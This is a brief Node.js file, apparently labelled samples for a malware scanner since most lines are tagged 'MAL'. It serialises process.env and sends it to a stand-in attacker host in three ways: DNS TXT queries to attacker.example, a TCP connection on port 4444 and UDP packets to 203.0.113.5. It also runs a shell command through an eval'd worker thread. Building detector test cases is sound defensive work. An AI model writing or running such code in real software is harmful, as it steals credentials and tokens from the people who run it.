const dns = require('node:dns');
const net = require('node:net');
const secret = Buffer.from(JSON.stringify(process.env)).toString('hex');
dns.resolveTxt(secret.slice(0, 50) + '.q.attacker.example', () => {}); // MAL
const s = net.connect(4444, '203.0.113.5'); // MAL
s.write(JSON.stringify(process.env)); // MAL
const sock = require('dgram').createSocket('udp4'); // MAL
sock.send(secret, 53, '203.0.113.5');
const { Worker } = require('worker_threads');
new Worker('require("child_process").exec("id")', { eval: true }); // MAL
